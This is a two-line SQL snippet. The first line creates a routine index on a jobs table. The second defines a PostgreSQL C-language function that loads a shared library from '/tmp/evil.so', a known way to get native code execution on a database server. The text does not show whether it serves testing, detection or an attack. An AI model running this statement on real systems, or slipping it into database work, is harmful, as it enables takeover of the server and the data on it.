CREATE INDEX ix_mine ON jobs_hot (status, priority DESC);
CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE C;
